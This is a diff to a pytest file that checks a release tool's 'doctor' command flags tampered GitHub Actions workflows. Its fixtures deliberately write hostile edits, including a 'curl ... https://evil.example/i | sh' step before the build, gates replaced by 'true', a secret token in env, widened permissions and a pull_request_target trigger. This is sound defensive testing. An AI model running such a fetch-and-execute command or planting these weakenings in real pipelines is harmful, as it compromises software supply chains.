@@ -9,6 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import tomlkit
 
 from tests.commands.projects import MAKERS
 from tests.helpers import git, run, tagship
@@ -109,8 +110,12 @@ BREAKAGES: dict[str, tuple[Callable[[Path], None], tuple[str, ...]]] = {
         _edit(RELEASE, "run: uv build", "run: uv build ${{ github.head_ref }}"),
         ("TS425", "TS427"),
     ),
+    "ci on pull_request_target": (
+        _edit(".github/workflows/ci.yml", "  pull_request:\n", "  pull_request_target:\n"),
+        ("TS453", "TS427"),
+    ),
     "renamed environment": (
-        _edit(RELEASE, "environment: release\n", "environment: production\n"),
+        _edit(RELEASE, 'environment: "release"\n', 'environment: "production"\n'),
         ("TS426",),
     ),
 }
@@ -136,3 +141,94 @@ def test_a_shallow_clone_fails_not_shallow(adopted: Path, tmp_path: Path) -> Non
     code, report = doctor_report(clone)
     assert code == 1
     assert statuses(report)["TS430"] == "failed"
+
+
+GATE_LINE = '"$RUNNER_TEMP/tagship-env/bin/tagship" gate --no-cache'
+# Issue 13's tampering: each breaks an invariant (the rule named) as well as TS428.
+TAMPERINGS: dict[str, tuple[Callable[[Path], None], str]] = {
+    "curl | sh before the build": (
+        _edit(RELEASE, "run: uv build", "run: curl -sSf https://evil.example/i | sh && uv build"),
+        "TS452",
+    ),
+    "gate replaced by true": (_edit(RELEASE, GATE_LINE, "true"), "TS450"),
+    "gate failure ignored": (_edit(RELEASE, GATE_LINE, GATE_LINE + " || true"), "TS450"),
+    "check replaced by true": (
+        _edit(RELEASE, "run: uv run --no-sync tagship check --dist dist/", 'run: "true"'),
+        "TS450",
+    ),
+    "verify may fail": (
+        _edit(
+            RELEASE,
+            "      - name: Install the published version and smoke-test it\n",
+            "      - name: Install the published version and smoke-test it\n"
+            "        continue-on-error: true\n",
+        ),
+        "TS450",
+    ),
+    "publish without the gates": (
+        _edit(RELEASE, "needs: [build, gates]", "needs: build"),
+        "TS450",
+    ),
+    "a token secret in env": (
+        _edit(RELEASE, "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ secrets.RELEASE_PAT }}"),
+        "TS451",
+    ),
+    "permissions widened": (
+        _edit(RELEASE, "contents: read # check out", "contents: write # check out"),
+        "TS422",
+    ),
+}
+
+
+def _opt_out(path: Path) -> None:
+    document = tomlkit.parse((path / "pyproject.toml").read_text(encoding="utf-8"))
+    tool = document.setdefault("tool", tomlkit.table())
+    tool.setdefault("tagship", tomlkit.table())["generate-workflows"] = False
+    (path / "pyproject.toml").write_text(tomlkit.dumps(document), encoding="utf-8")
+
+
+def _doctor_after(adopted: Path, project: Path, change: Callable[[Path], None]) -> dict[str, Any]:
+    shutil.copytree(adopted, project, symlinks=True)
+    change(project)
+    code, report = doctor_report(project)
+    assert code == 1
+    return report
+
+
+@pytest.mark.parametrize("tampering", sorted(TAMPERINGS))
+def test_a_tampered_generated_workflow_fails(adopted: Path, tmp_path: Path, tampering: str) -> None:
+    tamper, rule = TAMPERINGS[tampering]
+    report = _doctor_after(adopted, tmp_path / "project", tamper)
+    found = {finding["id"]: finding for finding in report["rules"]}
+    assert found["TS428"]["status"] == "failed"
+    assert found["TS428"]["message"].startswith(
+        ".github/workflows/release.yml differs from what tagship init writes for this project:\n"
+    )
+    assert "       +" in found["TS428"]["message"]  # the short diff shows the edit
+    assert "tagship init --force" in found["TS428"]["fix"]
+    assert found[rule]["status"] == "failed", found[rule]
+
+
+@pytest.mark.parametrize("tampering", sorted(TAMPERINGS))
+def test_an_own_workflow_is_held_to_the_invariants(
+    adopted: Path, tmp_path: Path, tampering: str
+) -> None:
+    tamper, rule = TAMPERINGS[tampering]
+
+    def own_and_tampered(path: Path) -> None:
+        _opt_out(path)
+        tamper(path)
+
+    report = _doctor_after(adopted, tmp_path / "project", own_and_tampered)
+    failed = {rule["id"] for rule in report["rules"] if rule["status"] == "failed"}
+    assert statuses(report)["TS428"] == "skipped"
+    assert rule in failed
+    assert failed - {rule} <= {"TS408", "TS427"}  # zizmor may see the same problem
+
+
+def test_an_own_untouched_workflow_passes(adopted: Path, tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    shutil.copytree(adopted, project, symlinks=True)
+    _opt_out(project)
+    code, report = doctor_report(project)
+    assert (code, statuses(report)["TS428"], statuses(report)["TS450"]) == (0, "skipped", "passed")
